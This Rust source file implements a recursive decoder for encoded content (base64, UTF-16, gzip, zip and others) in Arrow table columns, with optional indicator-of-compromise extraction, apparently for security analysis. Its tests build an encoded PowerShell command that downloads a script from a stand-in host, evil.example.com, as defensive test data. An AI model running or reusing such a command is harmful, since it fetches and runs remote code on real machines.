//! The decode operation over Arrow: `decode.unpack` (engine: `hg_decode`, IoCs: `hg_ioc`).
//!
//! # `decode.unpack`
//!
//! Input: a table with the string column named by `column` (Utf8, LargeUtf8, Utf8View or a
//! dictionary of those; null cells are skipped). Every cell is unpacked on its own, with its own
//! limits. Output: one row per decoded layer, in input row order, parents before children (rows
//! without decodable content give no rows), with the reference's columns (MSTICPy's base64
//! unpacking) followed by ours:
//!
//! | column | type | meaning |
//! |---|---|---|
//! | `reference` | list of 3 utf8 | the reference's tuple (`["", "1.", "1"]`: parent prefix, depth, fragment) |
//! | `original_string` | utf8 | the candidate text as found |
//! | `file_name` | utf8 | archive member name, `gzip_file`, else `unknown` |
//! | `file_type` | utf8 (null) | signature name (`exe`, `zip`, `gz`, ...), null when unknown |
//! | `input_bytes` | binary | the layer's bytes |
//! | `decoded_string` | utf8 (null) | the layer as text, null for binary |
//! | `encoding_type` | utf8 | `utf-8`, `utf-16` or `binary` |
//! | `file_hashes` | struct{md5, sha1, sha256} | the hashes as one value (the reference's dict) |
//! | `md5`, `sha1`, `sha256` | utf8 | lowercase hex of `input_bytes`' hashes |
//! | `printable_bytes` | utf8 | space-separated hex of the first `max_preview_bytes` bytes |
//! | `src_index` | int64 | the 0-based input row |
//! | *column* | utf8 | the input cell (named like the input column) |
//! | `full_decoded_string` | utf8 | the cell with every decoded candidate replaced by its tag |
//! | `layer` | utf8 | the layer's path in the decode tree (`1`, `1.2`, `1.2.1`) |
//! | `parent_layer` | utf8 (null) | the path of the layer it came from |
//! | `depth` | int64 | scan level (1 = the input text) |
//! | `chain` | utf8 | encodings from the scanned text to this layer, outermost first, joined by ` > ` |
//! | `size` | int64 | bytes in `input_bytes` |
//! | `span_start`, `span_end` | int64 | byte offsets of `original_string` in the scanned text |
//! | `stopped_by` | utf8 (null) | the limit that stopped this layer (`max_depth`, ...) |
//! | `error` | utf8 (null) | what was wrong with a malformed layer |
//!
//! With `iocs: true`, five list columns follow, one entry per indicator found in the layer's
//! `decoded_string` (empty for binary layers), extracted as `ioc.extract` does with its default
//! options: `ioc_type`, `ioc_observable`, `ioc_canonical` (lists of utf8), `ioc_start`, `ioc_end`
//! (lists of int64: byte offsets in `decoded_string`). Running `ioc.extract` with
//! `columns: ["decoded_string"]` on this output gives the same indicators, with `SourceIndex`
//! the output row (the browser widget does that, as its Arrow reader reads no lists).
//!
//! Options mirror the engine's builder (`hg_decode::DecoderBuilder`): `reference_mode`, `utf16`,
//! `min_base64_len`, `disable` (encodings to turn off) and every limit (`max_depth`,
//! `max_total_output_bytes`, `max_expansion_ratio`, `expansion_floor_bytes`,
//! `max_archive_members`, `max_member_size`, `max_records`, `max_preview_bytes`). The limits are
//! per input cell; the output is cut into batches whose byte data stays under
//! [`MAX_OUTPUT_BATCH_BYTES`].

use std::sync::{Arc, OnceLock};

use arrow_array::builder::{ArrayBuilder, BinaryBuilder, Int64Builder, ListBuilder, StringBuilder};
use arrow_array::{ArrayRef, RecordBatch, StructArray};
use arrow_schema::{DataType, Field, Fields, Schema, SchemaRef};
use hg_arrow::{HgArrowError, Table};
use hg_decode::{DecodedRecord, Decoder, DecoderBuilder, Encoding, Utf16Mode};
use hg_ioc::{IocExtractor, IocMatch};
use serde::Deserialize;

use crate::{parse_options, OpError, OpInfo, Operation, OptionInfo, MAX_OUTPUT_BATCH_BYTES};

/// Most bytes one call may produce: every layer row repeats its cell and display string (as the
/// reference's DataFrame mode does), so a few huge cells with many layers could otherwise exhaust
/// memory (wasm32 has 4 GiB). A call past it fails naming the limit.
pub const MAX_OUTPUT_BYTES: usize = 1 << 30;

/// The reference's output columns, in order (the source column and `full_decoded_string` follow
/// `src_index`).
pub const REFERENCE_COLUMNS: [&str; 13] = [
    "reference",
    "original_string",
    "file_name",
    "file_type",
    "input_bytes",
    "decoded_string",
    "encoding_type",
    "file_hashes",
    "md5",
    "sha1",
    "sha256",
    "printable_bytes",
    "src_index",
];

/// Our columns after the source column and `full_decoded_string`.
pub const LAYER_COLUMNS: [&str; 9] = [
    "layer",
    "parent_layer",
    "depth",
    "chain",
    "size",
    "span_start",
    "span_end",
    "stopped_by",
    "error",
];

/// The list columns added by `iocs: true`.
pub const IOC_COLUMNS: [&str; 5] = [
    "ioc_type",
    "ioc_observable",
    "ioc_canonical",
    "ioc_start",
    "ioc_end",
];

/// The separator of the `chain` column.
pub const CHAIN_SEPARATOR: &str = " > ";

const fn limit(name: &'static str, default: &'static str, description: &'static str) -> OptionInfo {
    OptionInfo {
        name,
        type_name: "integer",
        required: false,
        default,
        description,
    }
}

static UNPACK_INFO: OpInfo = OpInfo {
    name: "decode.unpack",
    description: "Find and decode, recursively and within limits, encoded content (base64, hex, percent, char codes, UTF-16LE, gzip/zlib/deflate, zip/tar members) in a string column, one row per decoded layer.",
    input: "a table with the string column named by `column`",
    output: "reference: list<utf8>, original_string, file_name, file_type, input_bytes: binary, decoded_string, encoding_type, file_hashes: struct{md5, sha1, sha256}, md5, sha1, sha256, printable_bytes, src_index: int64, <column>, full_decoded_string, layer, parent_layer, depth: int64, chain, size: int64, span_start: int64, span_end: int64, stopped_by, error; with iocs: ioc_type, ioc_observable, ioc_canonical: list<utf8>, ioc_start, ioc_end: list<int64>; one row per layer",
    options: &[
        OptionInfo {
            name: "column",
            type_name: "string",
            required: true,
            default: "null",
            description: "The input column to unpack.",
        },
        OptionInfo {
            name: "iocs",
            type_name: "boolean",
            required: false,
            default: "false",
            description: "Add the indicators of each layer's decoded text (ioc.extract's defaults) as list columns ioc_type, ioc_observable, ioc_canonical, ioc_start, ioc_end.",
        },
        OptionInfo {
            name: "reference_mode",
            type_name: "boolean",
            required: false,
            default: "false",
            description: "Do only what MSTICPy's base64 unpacking does (base64, its gzip/zip/tar prefixes, one expansion level, no UTF-16 detection).",
        },
        OptionInfo {
            name: "utf16",
            type_name: "string",
            required: false,
            default: "\"auto\"",
            description: "How decoded bytes are tried as UTF-16: auto (byte-order mark, -EncodedCommand, or UTF-16LE-looking text), always, never.",
        },
        OptionInfo {
            name: "min_base64_len",
            type_name: "integer",
            required: false,
            default: "30",
            description: "Shortest base64 candidate (4..=4096).",
        },
        OptionInfo {
            name: "disable",
            type_name: "list of strings",
            required: false,
            default: "[]",
            description: "Encodings not to detect or expand: base64, base64url, hex, percent, char_codes, gzip, zlib, deflate, zip, tar.",
        },
        limit("max_depth", "20", "Deepest scan level of decoded text."),
        limit(
            "max_total_output_bytes",
            "67108864",
            "Bytes all layers of one cell may produce together.",
        ),
        limit(
            "max_expansion_ratio",
            "100",
            "Largest output/input ratio of one decompression (above expansion_floor_bytes).",
        ),
        limit(
            "expansion_floor_bytes",
            "1048576",
            "Bytes a decompression may always produce, whatever the ratio.",
        ),
        limit("max_archive_members", "1000", "Members read from one archive."),
        limit("max_member_size", "16777216", "Bytes read from one archive member."),
        limit("max_records", "10000", "Rows reported for one cell."),
        limit("max_preview_bytes", "65536", "Bytes shown in printable_bytes."),
    ],
};

/// `decode.unpack`: recursive decoding of a string column, one row per layer.
#[derive(Debug, Default)]
pub struct UnpackOp;

#[derive(Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
struct UnpackOptions {
    column: Option<String>,
    iocs: Option<bool>,
    reference_mode: Option<bool>,
    utf16: Option<String>,
    min_base64_len: Option<usize>,
    disable: Option<Vec<String>>,
    max_depth: Option<usize>,
    max_total_output_bytes: Option<usize>,
    max_expansion_ratio: Option<usize>,
    expansion_floor_bytes: Option<usize>,
    max_archive_members: Option<usize>,
    max_member_size: Option<usize>,
    max_records: Option<usize>,
    max_preview_bytes: Option<usize>,
}

fn bad_option(key: &str, message: String) -> OpError {
    OpError::BadOption {
        op: UNPACK_INFO.name.to_string(),
        key: key.to_string(),
        message,
    }
}

fn decoder(opts: &UnpackOptions) -> Result<Decoder, OpError> {
    let mut b = Decoder::builder();
    if opts.reference_mode == Some(true) {
        b = b.reference_mode();
    }
    if let Some(mode) = &opts.utf16 {
        b = b.utf16(match mode.as_str() {
            "auto" => Utf16Mode::Auto,
            "always" => Utf16Mode::Always,
            "never" => Utf16Mode::Never,
            other => {
                return Err(bad_option(
                    "utf16",
                    format!("unknown mode '{other}'; valid modes: auto, always, never"),
                ))
            }
        });
    }
    if let Some(v) = opts.min_base64_len {
        b = b.min_base64_len(v);
    }
    type Setter = fn(DecoderBuilder, usize) -> DecoderBuilder;
    let limits: [(Option<usize>, Setter); 8] = [
        (opts.max_depth, DecoderBuilder::max_depth),
        (
            opts.max_total_output_bytes,
            DecoderBuilder::max_total_output_bytes,
        ),
        (
            opts.max_expansion_ratio,
            DecoderBuilder::max_expansion_ratio,
        ),
        (
            opts.expansion_floor_bytes,
            DecoderBuilder::expansion_floor_bytes,
        ),
        (
            opts.max_archive_members,
            DecoderBuilder::max_archive_members,
        ),
        (opts.max_member_size, DecoderBuilder::max_member_size),
        (opts.max_records, DecoderBuilder::max_records),
        (opts.max_preview_bytes, DecoderBuilder::max_preview_bytes),
    ];
    for (value, set) in limits {
        if let Some(v) = value {
            b = set(b, v);
        }
    }
    for name in opts.disable.iter().flatten() {
        let encoding = Encoding::parse(name)
            .filter(|e| *e != Encoding::Utf16Le)
            .ok_or_else(|| {
                bad_option(
                    "disable",
                    format!(
                        "unknown encoding '{name}'; valid: base64, base64url, hex, percent, char_codes, gzip, zlib, deflate, zip, tar (utf16le is set by 'utf16')"
                    ),
                )
            })?;
        b = b.encoding(encoding, false);
    }
    b.build().map_err(|e| OpError::Engine {
        op: UNPACK_INFO.name.to_string(),
        message: e.to_string(),
    })
}

/// The extractor of `iocs: true`: `ioc.extract`'s defaults (all types, paths, defanged forms).
fn ioc_extractor() -> Result<&'static IocExtractor, OpError> {
    static EXTRACTOR: OnceLock<Result<IocExtractor, String>> = OnceLock::new();
    EXTRACTOR
        .get_or_init(|| IocExtractor::builder().build().map_err(|e| e.to_string()))
        .as_ref()
        .map_err(|message| OpError::Engine {
            op: UNPACK_INFO.name.to_string(),
            message: message.clone(),
        })
}

fn input_error(source: HgArrowError) -> OpError {
    OpError::input(UNPACK_INFO.name, source)
}

fn to_i64(n: usize) -> i64 {
    i64::try_from(n).unwrap_or(i64::MAX)
}

/// The output table under construction.
struct UnpackOutput {
    schema: SchemaRef,
    hash_fields: Fields,
    reference: ListBuilder<StringBuilder>,
    original_string: StringBuilder,
    file_name: StringBuilder,
    file_type: StringBuilder,
    input_bytes: BinaryBuilder,
    decoded_string: StringBuilder,
    encoding_type: StringBuilder,
    md5: StringBuilder,
    sha1: StringBuilder,
    sha256: StringBuilder,
    printable_bytes: StringBuilder,
    src_index: Int64Builder,
    source: StringBuilder,
    full_decoded_string: StringBuilder,
    layer: StringBuilder,
    parent_layer: StringBuilder,
    depth: Int64Builder,
    chain: StringBuilder,
    size: Int64Builder,
    span_start: Int64Builder,
    span_end: Int64Builder,
    stopped_by: StringBuilder,
    error: StringBuilder,
    iocs: Option<IocColumns>,
    pending_bytes: usize,
    total_bytes: usize,
    batches: Vec<RecordBatch>,
}

struct IocColumns {
    ioc_type: ListBuilder<StringBuilder>,
    observable: ListBuilder<StringBuilder>,
    canonical: ListBuilder<StringBuilder>,
    start: ListBuilder<Int64Builder>,
    end: ListBuilder<Int64Builder>,
}

fn list_field(name: &str, item: DataType) -> Field {
    Field::new(
        name,
        DataType::List(Arc::new(Field::new("item", item, true))),
        false,
    )
}

impl UnpackOutput {
    fn new(source_column: &str, iocs: bool) -> Self {
        let utf8 = |name: &str, nullable: bool| Field::new(name, DataType::Utf8, nullable);
        let int = |name: &str| Field::new(name, DataType::Int64, false);
        let hash_fields = Fields::from(vec![
            utf8("md5", false),
            utf8("sha1", false),
            utf8("sha256", false),
        ]);
        let mut fields = vec![
            list_field("reference", DataType::Utf8),
            utf8("original_string", false),
            utf8("file_name", false),
            utf8("file_type", true),
            Field::new("input_bytes", DataType::Binary, false),
            utf8("decoded_string", true),
            utf8("encoding_type", false),
            Field::new("file_hashes", DataType::Struct(hash_fields.clone()), false),
            utf8("md5", false),
            utf8("sha1", false),
            utf8("sha256", false),
            utf8("printable_bytes", false),
            int("src_index"),
            utf8(source_column, false),
            utf8("full_decoded_string", false),
            utf8("layer", false),
            utf8("parent_layer", true),
            int("depth"),
            utf8("chain", false),
            int("size"),
            int("span_start"),
            int("span_end"),
            utf8("stopped_by", true),
            utf8("error", true),
        ];
        if iocs {
            fields.extend([
                list_field("ioc_type", DataType::Utf8),
                list_field("ioc_observable", DataType::Utf8),
                list_field("ioc_canonical", DataType::Utf8),
                list_field("ioc_start", DataType::Int64),
                list_field("ioc_end", DataType::Int64),
            ]);
        }
        UnpackOutput {
            schema: Arc::new(Schema::new(fields)),
            hash_fields,
            reference: ListBuilder::new(StringBuilder::new()),
            original_string: StringBuilder::new(),
            file_name: StringBuilder::new(),
            file_type: StringBuilder::new(),
            input_bytes: BinaryBuilder::new(),
            decoded_string: StringBuilder::new(),
            encoding_type: StringBuilder::new(),
            md5: StringBuilder::new(),
            sha1: StringBuilder::new(),
            sha256: StringBuilder::new(),
            printable_bytes: StringBuilder::new(),
            src_index: Int64Builder::new(),
            source: StringBuilder::new(),
            full_decoded_string: StringBuilder::new(),
            layer: StringBuilder::new(),
            parent_layer: StringBuilder::new(),
            depth: Int64Builder::new(),
            chain: StringBuilder::new(),
            size: Int64Builder::new(),
            span_start: Int64Builder::new(),
            span_end: Int64Builder::new(),
            stopped_by: StringBuilder::new(),
            error: StringBuilder::new(),
            iocs: iocs.then(|| IocColumns {
                ioc_type: ListBuilder::new(StringBuilder::new()),
                observable: ListBuilder::new(StringBuilder::new()),
                canonical: ListBuilder::new(StringBuilder::new()),
                start: ListBuilder::new(Int64Builder::new()),
                end: ListBuilder::new(Int64Builder::new()),
            }),
            pending_bytes: 0,
            total_bytes: 0,
            batches: Vec::new(),
        }
    }

    fn push(
        &mut self,
        r: &DecodedRecord,
        src_index: usize,
        source: &str,
        full: &str,
        extractor: Option<&IocExtractor>,
    ) {
        for part in r.reference.parts() {
            self.reference.values().append_value(part);
        }
        self.reference.append(true);
        self.original_string.append_value(&r.original_string);
        self.file_name.append_value(&r.file_name);
        self.file_type.append_option(r.file_type.as_deref());
        self.input_bytes.append_value(&r.input_bytes);
        self.decoded_string
            .append_option(r.decoded_string.as_deref());
        self.encoding_type.append_value(r.encoding_type);
        self.md5.append_value(&r.hashes.md5);
        self.sha1.append_value(&r.hashes.sha1);
        self.sha256.append_value(&r.hashes.sha256);
        self.printable_bytes.append_value(&r.printable_bytes);
        self.src_index.append_value(to_i64(src_index));
        self.source.append_value(source);
        self.full_decoded_string.append_value(full);
        self.layer.append_value(&r.index);
        self.parent_layer.append_option(r.parent.as_deref());
        self.depth.append_value(to_i64(r.depth));
        let chain: Vec<&str> = r.chain.iter().map(|e| e.as_str()).collect();
        self.chain.append_value(chain.join(CHAIN_SEPARATOR));
        self.size.append_value(to_i64(r.input_bytes.len()));
        self.span_start.append_value(to_i64(r.span.start));
        self.span_end.append_value(to_i64(r.span.end));
        self.stopped_by
            .append_option(r.stopped_by.map(|l| l.as_str()));
        self.error.append_option(r.error.as_deref());
        self.pending_bytes += r.original_string.len()
            + r.input_bytes.len()
            + r.decoded_string.as_ref().map_or(0, String::len)
            + r.printable_bytes.len()
            + source.len()
            + full.len()
            + 256;
        if let (Some(columns), Some(extractor)) = (self.iocs.as_mut(), extractor) {
            if let Some(text) = &r.decoded_string {
                extractor.extract(text, &mut |m: &IocMatch<'_>| {
                    columns.ioc_type.values().append_value(m.type_name);
                    columns.observable.values().append_value(m.observable);
                    columns.canonical.values().append_value(m.canonical);
                    columns.start.values().append_value(to_i64(m.start));
                    columns.end.values().append_value(to_i64(m.end));
                    self.pending_bytes +=
                        m.type_name.len() + m.observable.len() + m.canonical.len();
                });
            }
            columns.ioc_type.append(true);
            columns.observable.append(true);
            columns.canonical.append(true);
            columns.start.append(true);
            columns.end.append(true);
        }
    }

    fn finish_batch(&mut self) -> Result<(), OpError> {
        if self.src_index.len() == 0 {
            return Ok(());
        }
        let md5: ArrayRef = Arc::new(self.md5.finish());
        let sha1: ArrayRef = Arc::new(self.sha1.finish());
        let sha256: ArrayRef = Arc::new(self.sha256.finish());
        let hashes = StructArray::try_new(
            self.hash_fields.clone(),
            vec![Arc::clone(&md5), Arc::clone(&sha1), Arc::clone(&sha256)],
            None,
        )
        .map_err(|e| engine_error(format!("building file_hashes: {e}")))?;
        let mut columns: Vec<ArrayRef> = vec![
            Arc::new(self.reference.finish()),
            Arc::new(self.original_string.finish()),
            Arc::new(self.file_name.finish()),
            Arc::new(self.file_type.finish()),
            Arc::new(self.input_bytes.finish()),
            Arc::new(self.decoded_string.finish()),
            Arc::new(self.encoding_type.finish()),
            Arc::new(hashes),
            md5,
            sha1,
            sha256,
            Arc::new(self.printable_bytes.finish()),
            Arc::new(self.src_index.finish()),
            Arc::new(self.source.finish()),
            Arc::new(self.full_decoded_string.finish()),
            Arc::new(self.layer.finish()),
            Arc::new(self.parent_layer.finish()),
            Arc::new(self.depth.finish()),
            Arc::new(self.chain.finish()),
            Arc::new(self.size.finish()),
            Arc::new(self.span_start.finish()),
            Arc::new(self.span_end.finish()),
            Arc::new(self.stopped_by.finish()),
            Arc::new(self.error.finish()),
        ];
        if let Some(iocs) = self.iocs.as_mut() {
            columns.push(Arc::new(iocs.ioc_type.finish()));
            columns.push(Arc::new(iocs.observable.finish()));
            columns.push(Arc::new(iocs.canonical.finish()));
            columns.push(Arc::new(iocs.start.finish()));
            columns.push(Arc::new(iocs.end.finish()));
        }
        // The builders' list fields are nullable items named "item", as the schema says.
        let batch = RecordBatch::try_new(Arc::clone(&self.schema), columns)
            .map_err(|e| engine_error(format!("building the output: {e}")))?;
        self.batches.push(batch);
        self.total_bytes += self.pending_bytes;
        self.pending_bytes = 0;
        if self.total_bytes > MAX_OUTPUT_BYTES {
            return Err(engine_error(format!(
                "the output passed {MAX_OUTPUT_BYTES} bytes (every layer row repeats its cell); send fewer rows per call or lower max_records"
            )));
        }
        Ok(())
    }
}

fn engine_error(message: String) -> OpError {
    OpError::engine(UNPACK_INFO.name, message)
}

impl Operation for UnpackOp {
    fn info(&self) -> &'static OpInfo {
        &UNPACK_INFO
    }

    fn run(&self, options: &[u8], input: &[u8]) -> Result<Vec<u8>, OpError> {
        let opts: UnpackOptions = parse_options(&UNPACK_INFO, options)?;
        let column = opts.column.clone().unwrap_or_default();
        let taken = REFERENCE_COLUMNS
            .iter()
            .chain(["full_decoded_string"].iter())
            .chain(LAYER_COLUMNS.iter())
            .chain(IOC_COLUMNS.iter());
        if column.is_empty() {
            return Err(bad_option("column", "name the column to unpack".into()));
        }
        if let Some(name) = taken.into_iter().find(|n| **n == column) {
            return Err(bad_option(
                "column",
                format!(
                    "'{name}' is also an output column of decode.unpack; rename the input column"
                ),
            ));
        }
        let decoder = decoder(&opts)?;
        let extractor = if opts.iocs == Some(true) {
            Some(ioc_extractor()?)
        } else {
            None
        };
        let table = crate::read_input(UNPACK_INFO.name, input)?;
        Table::new(table.schema().clone(), Vec::new())
            .map_err(input_error)?
            .strings(&column)
            .map_err(input_error)?;
        let mut out = UnpackOutput::new(&column, extractor.is_some());
        let mut first_row = 0usize;
        let mut records: Vec<DecodedRecord> = Vec::new();
        for batch in table.batches() {
            let one =
                Table::new(table.schema().clone(), vec![batch.clone()]).map_err(input_error)?;
            let values = one.strings(&column).map_err(input_error)?;
            for row in 0..batch.num_rows() {
                let Some(text) = values.get(row) else {
                    continue;
                };
                records.clear();
                let unpacked = decoder.unpack(text, &mut |r: DecodedRecord| records.push(r));
                for r in &records {
                    out.push(
                        r,
                        first_row + row,
                        text,
                        &unpacked.full_decoded_string,
                        extractor,
                    );
                    if out.pending_bytes >= MAX_OUTPUT_BATCH_BYTES {
                        out.finish_batch()?;
                    }
                }
            }
            first_row += batch.num_rows();
        }
        out.finish_batch()?;
        hg_arrow::write_ipc_stream(&out.schema, &out.batches).map_err(input_error)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Registry;
    use arrow_array::cast::AsArray;
    use arrow_array::types::Int64Type;
    use arrow_array::{Array, StringArray};

    fn ipc(column: &str, values: &[Option<&str>]) -> Vec<u8> {
        let schema = Arc::new(Schema::new(vec![Field::new(column, DataType::Utf8, true)]));
        let array: ArrayRef = Arc::new(StringArray::from(values.to_vec()));
        let batch = RecordBatch::try_new(Arc::clone(&schema), vec![array]).expect("batch");
        hg_arrow::write_ipc_stream(&schema, &[batch]).expect("ipc")
    }

    fn run(options: &str, input: &[u8]) -> Result<Vec<RecordBatch>, OpError> {
        let out = Registry::standard().call("decode.unpack", options.as_bytes(), input)?;
        let table = hg_arrow::read_ipc_stream(&out).expect("valid output");
        Ok(table.batches().to_vec())
    }

    fn strings(batch: &RecordBatch, name: &str) -> Vec<Option<String>> {
        let column = batch.column_by_name(name).expect(name).as_string::<i32>();
        (0..column.len())
            .map(|i| column.is_valid(i).then(|| column.value(i).to_string()))
            .collect()
    }

    fn ints(batch: &RecordBatch, name: &str) -> Vec<i64> {
        batch
            .column_by_name(name)
            .expect(name)
            .as_primitive::<Int64Type>()
            .values()
            .to_vec()
    }

    // powershell -enc <base64 of UTF-16LE "iwr http://evil.example.com/a.ps1">
    fn encoded_command() -> String {
        let text = "iwr http://evil.example.com/a.ps1";
        let utf16: Vec<u8> = text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        use base64_engine::encode;
        format!("powershell.exe -enc {}", encode(&utf16))
    }

    mod base64_engine {
        /// Standard base64 with padding (enough for building test inputs).
        pub fn encode(bytes: &[u8]) -> String {
            const ALPHABET: &[u8; 64] =
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            let mut out = String::new();
            for chunk in bytes.chunks(3) {
                let b = [
                    chunk[0],
                    *chunk.get(1).unwrap_or(&0),
                    *chunk.get(2).unwrap_or(&0),
                ];
                let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
                for i in 0..4 {
                    if i <= chunk.len() {
                        out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
                    } else {
                        out.push('=');
                    }
                }
            }
            out
        }
    }

    #[test]
    fn columns_rows_and_source_context() {
        let line = encoded_command();
        let input = ipc("CommandLine", &[Some("nothing here"), None, Some(&line)]);
        let batches = run(r#"{"column": "CommandLine"}"#, &input).expect("runs");
        assert_eq!(batches.len(), 1);
        let b = &batches[0];
        let names: Vec<String> = b
            .schema()
            .fields()
            .iter()
            .map(|f| f.name().clone())
            .collect();
        let mut expected: Vec<&str> = REFERENCE_COLUMNS.to_vec();
        expected.extend(["CommandLine", "full_decoded_string"]);
        expected.extend(LAYER_COLUMNS);
        assert_eq!(names, expected);
        assert_eq!(b.num_rows(), 1);
        assert_eq!(ints(b, "src_index"), vec![2]);
        assert_eq!(
            strings(b, "decoded_string"),
            vec![Some("iwr http://evil.example.com/a.ps1".to_string())]
        );
        assert_eq!(
            strings(b, "chain"),
            vec![Some("base64 > utf16le".to_string())]
        );
        assert_eq!(
            strings(b, "encoding_type"),
            vec![Some("utf-16".to_string())]
        );
        assert_eq!(strings(b, "CommandLine"), vec![Some(line.clone())]);
        assert_eq!(strings(b, "layer"), vec![Some("1".to_string())]);
        assert_eq!(strings(b, "parent_layer"), vec![None]);
        let start = ints(b, "span_start")[0] as usize;
        let end = ints(b, "span_end")[0] as usize;
        assert_eq!(
            Some(line[start..end].to_string()),
            strings(b, "original_string")[0]
        );
        let bytes = b.column_by_name("input_bytes").unwrap().as_binary::<i32>();
        let h = hg_decode::hashes(bytes.value(0));
        assert_eq!(strings(b, "md5")[0].as_deref(), Some(h.md5.as_str()));
        assert_eq!(strings(b, "sha256")[0].as_deref(), Some(h.sha256.as_str()));
        assert_eq!(ints(b, "size")[0] as usize, bytes.value(0).len());
        let hashes = b.column_by_name("file_hashes").unwrap().as_struct();
        let sha1 = hashes.column_by_name("sha1").unwrap().as_string::<i32>();
        assert_eq!(sha1.value(0), h.sha1);
        let reference = b.column_by_name("reference").unwrap().as_list::<i32>();
        let parts = reference.value(0);
        let parts = parts.as_string::<i32>();
        assert_eq!(
            (0..3).map(|i| parts.value(i)).collect::<Vec<_>>(),
            vec!["", "1.", "1"]
        );
        let full = strings(b, "full_decoded_string")[0].clone().unwrap();
        assert!(full.starts_with("powershell.exe -enc <decoded"), "{full}");
    }

    #[test]
    fn iocs_per_layer_match_ioc_extract_on_the_output() {
        let line = encoded_command();
        let input = ipc("Cmd", &[Some(&line), Some("plain 10.0.0.1 text")]);
        let out = Registry::standard()
            .call(
                "decode.unpack",
                br#"{"column": "Cmd", "iocs": true}"#,
                &input,
            )
            .expect("runs");
        let table = hg_arrow::read_ipc_stream(&out).expect("valid");
        let b = &table.batches()[0];
        let types = b.column_by_name("ioc_type").unwrap().as_list::<i32>();
        let canon = b.column_by_name("ioc_canonical").unwrap().as_list::<i32>();
        let first = types.value(0);
        let first: Vec<&str> = first.as_string::<i32>().iter().flatten().collect();
        let first_canon = canon.value(0);
        let first_canon: Vec<&str> = first_canon.as_string::<i32>().iter().flatten().collect();
        assert!(
            first.contains(&"url") && first.contains(&"dns"),
            "{first:?}"
        );
        assert!(first_canon.contains(&"evil.example.com"), "{first_canon:?}");
        // The same indicators as ioc.extract run on decoded_string of the output.
        let extracted = Registry::standard()
            .call("ioc.extract", br#"{"columns": ["decoded_string"]}"#, &out)
            .expect("ioc.extract reads the output");
        let extracted = hg_arrow::read_ipc_stream(&extracted).expect("valid");
        let e = &extracted.batches()[0];
        let from_extract: Vec<(i64, String)> = ints(e, "SourceIndex")
            .into_iter()
            .zip(strings(e, "IoCType").into_iter().flatten())
            .collect();
        let mut from_op = Vec::new();
        for row in 0..b.num_rows() {
            let v = types.value(row);
            for t in v.as_string::<i32>().iter().flatten() {
                from_op.push((row as i64, t.to_string()));
            }
        }
        assert_eq!(from_op, from_extract);
    }

    #[test]
    fn limits_reach_the_engine_and_are_reported() {
        // Three levels of base64 over a text, stopped at depth 2.
        let mut text = "the innermost text at the bottom of the nesting".to_string();
        for _ in 0..3 {
            text = base64_engine::encode(text.as_bytes());
        }
        let input = ipc("T", &[Some(&text)]);
        let b = &run(r#"{"column": "T", "max_depth": 2}"#, &input).expect("runs")[0];
        let stopped = strings(b, "stopped_by");
        assert!(
            stopped.iter().flatten().any(|s| s == "max_depth"),
            "{stopped:?}"
        );
        let all = &run(r#"{"column": "T"}"#, &input).expect("runs")[0];
        assert!(strings(all, "stopped_by").iter().all(Option::is_none));
        assert_eq!(all.num_rows(), 3);
    }

    #[test]
    fn bad_options_and_inputs_are_named() {
        let input = ipc("T", &[Some("x")]);
        let message = |options: &str| run(options, &input).unwrap_err().to_string();
        assert_eq!(message("{}"), "decode.unpack: option 'column' is required");
        assert!(
            message(r#"{"column": "X"}"#).contains("column 'X' not found; available columns: T")
        );
        assert!(message(r#"{"column": "T", "utf16": "sometimes"}"#)
            .contains("option 'utf16': unknown mode 'sometimes'"));
        assert!(message(r#"{"column": "T", "disable": ["rot13"]}"#)
            .contains("option 'disable': unknown encoding 'rot13'"));
        assert!(message(r#"{"column": "T", "max_records": 0}"#)
            .contains("limit max_records must be at least 1"));
        assert!(message(r#"{"column": "T", "max_depth": -1}"#).contains("option 'max_depth'"));
        let clash = ipc("md5", &[Some("x")]);
        let err = run(r#"{"column": "md5"}"#, &clash).unwrap_err().to_string();
        assert!(err.contains("'md5' is also an output column"), "{err}");
    }

    #[test]
    fn empty_and_all_null_inputs_give_an_empty_table_with_the_columns() {
        let input = ipc("T", &[None, None]);
        let out = Registry::standard()
            .call("decode.unpack", br#"{"column": "T", "iocs": true}"#, &input)
            .expect("runs");
        let table = hg_arrow::read_ipc_stream(&out).expect("valid");
        assert_eq!(table.num_rows(), 0);
        assert_eq!(
            table.schema().fields().len(),
            REFERENCE_COLUMNS.len() + 2 + LAYER_COLUMNS.len() + IOC_COLUMNS.len()
        );
    }
}
